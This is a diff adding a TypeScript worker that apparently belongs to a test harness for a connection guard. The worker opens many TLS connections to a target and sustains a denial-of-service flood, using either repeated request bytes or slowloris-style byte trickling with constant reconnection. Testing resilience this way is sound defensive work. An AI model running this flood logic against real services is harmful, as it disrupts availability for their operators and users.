@@ -1,0 +1,49 @@
+import { once } from 'node:events';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { connect } from 'node:tls';
+import { parentPort, workerData } from 'node:worker_threads';
+
+import type { Attack } from './flood.ts';
+import type { Target } from './attacker.ts';
+
+/** Between two connections of a client, so that a closed port costs the attacker no processor. */
+const RECONNECT_MS = 10;
+/** Between two bytes of a slow client. */
+const BYTE_INTERVAL_MS = 500;
+
+const { target, kind, connections, bytes } = workerData as Attack & { readonly target: Target };
+let startedCount = 0;
+
+/** Attacks over one connection until the guard closes it. */
+async function attack(): Promise<void> {
+  const socket = connect({ ...target }).on('error', () => undefined);
+  const ended = new AbortController();
+  const closed = once(socket, 'close').finally(() => ended.abort());
+  await once(socket, 'secureConnect', { signal: ended.signal });
+  startedCount += 1;
+  if (startedCount === Math.ceil(connections / 10)) parentPort?.postMessage('started', []);
+  // Without a reader the end of the connection stays unseen.
+  socket.on('data', (chunk: Buffer) => {
+    if (kind === 'requests' && chunk.includes('HTTP/1.1')) socket.write(bytes);
+  });
+  if (kind === 'slow') {
+    for (const byte of bytes) {
+      await sleep(BYTE_INTERVAL_MS, undefined, { signal: ended.signal });
+      socket.write(Buffer.of(byte));
+    }
+  } else socket.write(bytes);
+  await closed;
+}
+
+async function attackForever(): Promise<never> {
+  for (;;) {
+    await attack().catch(() => undefined);
+    await sleep(RECONNECT_MS);
+  }
+}
+
+for (let index = 0; index < connections; index += 1) {
+  void attackForever();
+  // Handshakes of all connections at once would be another attack.
+  if (index % 10 === 9) await sleep(20);
+}
